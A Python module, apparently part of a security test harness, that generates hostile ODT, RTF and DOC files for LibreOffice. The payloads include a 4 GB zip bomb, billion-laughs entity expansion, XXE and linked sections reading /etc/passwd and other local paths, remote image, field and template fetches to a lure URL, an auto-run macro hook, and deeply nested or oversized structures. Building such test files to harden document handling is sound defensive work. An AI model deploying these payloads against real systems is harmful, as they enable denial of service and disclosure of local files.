"""Hostile files for LibreOffice: odt, rtf and doc."""

from __future__ import annotations

import zipfile
import zlib
from io import BytesIO

from hostile.bombs import Entry, deflated, lying_zip
from hostile.lure import Lure, Maker

_MIME = "application/vnd.oasis.opendocument.text"
_OASIS = "urn:oasis:names:tc:opendocument:xmlns"
_SPACES = (
    f'xmlns:office="{_OASIS}:office:1.0" xmlns:text="{_OASIS}:text:1.0" xmlns:draw="{_OASIS}:drawing:1.0" '
    f'xmlns:table="{_OASIS}:table:1.0" xmlns:script="{_OASIS}:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)
_HEAD = f'<office:document-content {_SPACES} office:version="1.3">'


def _odt(body: str, *, doctype: str = "", scripts: str = "") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", _MIME, zipfile.ZIP_STORED)
        package.writestr(
            "content.xml",
            f"{doctype}{_HEAD}{scripts}<office:body><office:text>{body}</office:text></office:body></office:document-content>",
        )
    return out.getvalue()


def _linked(body: str, doctype: str = "", scripts: str = "") -> Maker:
    def make(lure: Lure) -> bytes:
        filled = [part.replace("URL", lure.url).replace("PATH", lure.path) for part in (body, doctype, scripts)]
        return _odt(filled[0], doctype=filled[1], scripts=filled[2])

    return make


def _bomb() -> bytes:
    before = f"{_HEAD}<office:body><office:text>".encode()
    content = Entry(name="content.xml", packed=deflated(b"<text:p/>", 4_000_000_000, before=before), size=4_000_000_000)
    kind = Entry(name="mimetype", packed=_MIME.encode(), size=len(_MIME), crc=zlib.crc32(_MIME.encode()), method=0)
    return lying_zip([kind, content])


def _rtf(body: str) -> Maker:
    return lambda lure: (
        b"{\\rtf1\\ansi " + body.replace("URL", lure.url).replace("PATH", lure.path).encode("latin-1") + b"}"
    )


_IMAGE = (
    '<text:p><draw:frame><draw:image xlink:href="{}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>'
)
_SECTION = '<text:section text:name="a"><text:section-source xlink:href="{}" xlink:type="simple"/></text:section>'
_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
_SCRIPT = (
    '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:a.b?language=Python&amp;location=user"/></office:event-listeners></office:scripts>'
)
ODT: dict[str, Maker] = {
    "a part of 4 GB": lambda _: _bomb(),
    "billions of laughs": _linked("<text:p>&l9;</text:p>", _LAUGHS),
    "an entity": _linked("<text:p>&e;</text:p>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file://PATH">]>'),
    "a picture of a file": _linked(_IMAGE.format("file://PATH")),
    "a picture on the net": _linked(_IMAGE.format("URL/a.png")),
    "a section from a file": _linked(_SECTION.format("file://PATH")),
    "a section from the net": _linked(_SECTION.format("URL/a.odt")),
    "/etc/passwd in a section": _linked(_SECTION.format("file:///etc/passwd")),
    "a macro": _linked("<text:p>Hej</text:p>", "", _SCRIPT),
    "sections 5,000 deep": _linked("<text:section>" * 5_000 + "</text:section>" * 5_000),
    "tables 300 deep": _linked("<table:table><table:table-row><table:table-cell>" * 300 + "</table:table-cell></table:table-row></table:table>" * 300),
    "rows repeated without end": _linked('<table:table><table:table-row table:number-rows-repeated="99999999"><table:table-cell table:number-columns-repeated="99999999"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'),
    "spaces without end": _linked('<text:p>a<text:s text:c="2000000000"/>b</text:p>'),
}  # fmt: skip
RTF: dict[str, Maker] = {
    "groups 100,000 deep": _rtf("{" * 100_000),
    "data without end": _rtf("\\bin2147483647 x"),
    "data of less than nothing": _rtf("\\bin-1 x Hej"),
    "an object": _rtf("{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata " + "0105000002000000" * 1_000 + "}}"),
    "a field that fetches": _rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "URL/a.png"}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "PATH"}{\\fldrslt y}}'),
    "a template on the net": _rtf("{\\*\\template URL/mall.dotm}Hej"),
    "a million cells": _rtf("\\trowd" + "\\cellx1" * 300_000 + "\\intbl" + " a\\cell" * 300_000 + "\\row"),
    "a list without end": _rtf("{\\*\\listtable" + "{\\list{\\listlevel\\levelstartat2147483647}}" * 20_000 + "}Hej\\par"),
    "20 MB of letters": _rtf("a" * 20_000_000),
}  # fmt: skip
DOC: dict[str, Maker] = {
    "nothing but its head": lambda _: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2_000),
    "a directory in a circle": lambda _: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + bytes.fromhex("3e000300feff0900") + bytes(480) + b"\0\0\0\0" * 5_000,
}  # fmt: skip
